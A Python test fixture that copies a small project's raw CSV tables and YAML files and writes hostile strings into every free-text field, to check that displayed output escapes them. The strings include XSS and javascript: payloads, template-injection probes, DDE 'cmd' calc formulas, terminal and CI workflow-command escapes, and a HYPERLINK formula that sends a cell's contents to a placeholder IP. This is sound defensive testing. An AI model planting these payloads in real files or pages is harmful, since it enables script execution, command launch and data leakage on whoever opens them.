"""Text that attacks whoever shows it, put into every field of every raw table of a small project."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import yaml

from analysis.store import Project
from tests.faults.projects import ROOT

# Each carries a mark that must be readable wherever it is shown.
TEXTS = (
    "<script>document.title='hacked'</script>mark",
    "</script></style></title><img src=x onerror=document.title='hacked'>mark",
    '" onmouseover="document.title=1" autofocus onfocus="document.title=1" mark',
    "<a href='javascript:document.title=1'>mark</a>",
    "<svg onload=document.title='hacked'><text>mark</text></svg>",
    "{{7*7}}{% raw %}${7*7}#{7*7}mark",
    "datum['constructor']('document.title=1')() mark",
    "]]><!--mark--><![CDATA[",
    "\u202emark\u202c\u2066\u200e",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"mark")',
    "@SUM(1+1)*cmd|' /C calc'!A0 mark",
    "\x1b[2J\x1b]0;mark\x07\x9b31m",
    "mark\n::error file=x::injected\r\n##[error]injected",
    "mark::warning::%0A::set-output name=x::y",
    "mark" + "W" * 3000,
    "[mark](javascript:document.title=1) ![x](http://192.0.2.1/x.png) <http://192.0.2.1/>",
    '{"signal": "document.title=hacked", "expr": "warn(datum)", "href": "javascript:alert()"}mark',
    "&lt;script&gt;mark&#x3c;/script&#x3e;&amp;javascript&colon;",
    "\\href{javascript:alert()}{mark}$$\\unicode{x3c}$$`mark`",
    "\u200fmark\u061c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 mark\u2028mark\u2029\u0085",
    "+cmd|' /C calc'!A mark",
    "-HYPERLINK(mark)",
    "\t=DDE(mark)",
    "mark" + "a\u0301\u0323" * 300,
)
# Only what begins a cell is taken for a formula: these stand alone in cells that are empty otherwise.
FORMULAS = tuple(text for text in TEXTS if text.strip().startswith(("=", "@", "+", "-")))
# Columns in which a text from outside comes through, by table; every other column refuses what it does not know, which
# tests/clean/test_hostile_cells.py shows of each.
FREE = {
    "form-1.csv": ("label", "note", "location"),
    "form-3.csv": ("label", "note", "location", "unit"),
    "figures.csv": ("section", "label", "unit", "location"),
    "targets.csv": ("section", "label", "printed", "location"),
    "tasks.csv": ("task", "lead", "support", "deadline", "location"),
    "indices.csv": ("index", "source"),
}
SIDECAR = (
    "type",
    "number",
    "title",
    "issuer",
    "place",
    "signer",
    "source_name",
    "extracted_with",
    "source_format",
    "source_sha256",
)
DOCUMENTS = {
    "quang-tri/2024-H1/1125-bc-vp": ("form-1.csv", "form-3.csv", "figures.csv"),
    "quang-tri/2021-2025/3647-qd-ubnd": ("targets.csv",),
    "thai-nguyen/2020/4203-qd-ubnd": ("tasks.csv",),
    "dak-nong/2021-2025/1271-qd-ubnd": ("tasks.csv",),
    "national/2016-2024/published-indices": ("indices.csv",),
}


def rows_of(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
    return list(reader.fieldnames), list(reader)


def write_rows(path: Path, columns: list[str], rows: list[dict[str, str]]) -> None:
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8", newline="")


def _fits(row: dict[str, str], column: str, attack: str, place: int) -> bool:
    """Whether the attack still lets the rest of the row be read, so that its page is made and the attack shown on it."""
    if column in ("printed", "deadline"):
        return not any(sign.isdigit() for sign in attack)
    if column == "unit":
        return "%" not in row["unit"] and ("code" not in row or (attack is TEXTS[2] and not row["value"]))
    # A name of its own for every line would leave no index to compare.
    return column != "index" or place % 7 == 0


def project(root: Path) -> Project:
    """Every document as it is in the repository, but with an attack beside the words of each free text."""
    for document, tables in DOCUMENTS.items():
        source, target = ROOT / "data/raw" / document, root / "data/raw" / document
        target.mkdir(parents=True)
        number = 0
        for name in tables:
            columns, rows = rows_of(source / name)
            for place, row in enumerate(rows):
                for column in FREE[name]:
                    number += 1
                    attack = TEXTS[number % len(TEXTS)]
                    if _fits(row, column, attack, place):
                        row[column] = f"{row[column]} {attack}" if row[column] else FORMULAS[place % len(FORMULAS)]
            write_rows(target / name, columns, rows)
        facts = yaml.safe_load((source / "document.yml").read_text(encoding="utf-8"))
        for place, field in enumerate(SIDECAR):
            facts[field] = f"{facts.get(field) or ''} {TEXTS[place]}"
        (target / "document.yml").write_text(yaml.safe_dump(facts, allow_unicode=True), encoding="utf-8")
    for folder in ("notebooks", "expectations"):
        shutil.copytree(ROOT / folder, root / folder)
    return Project(root)
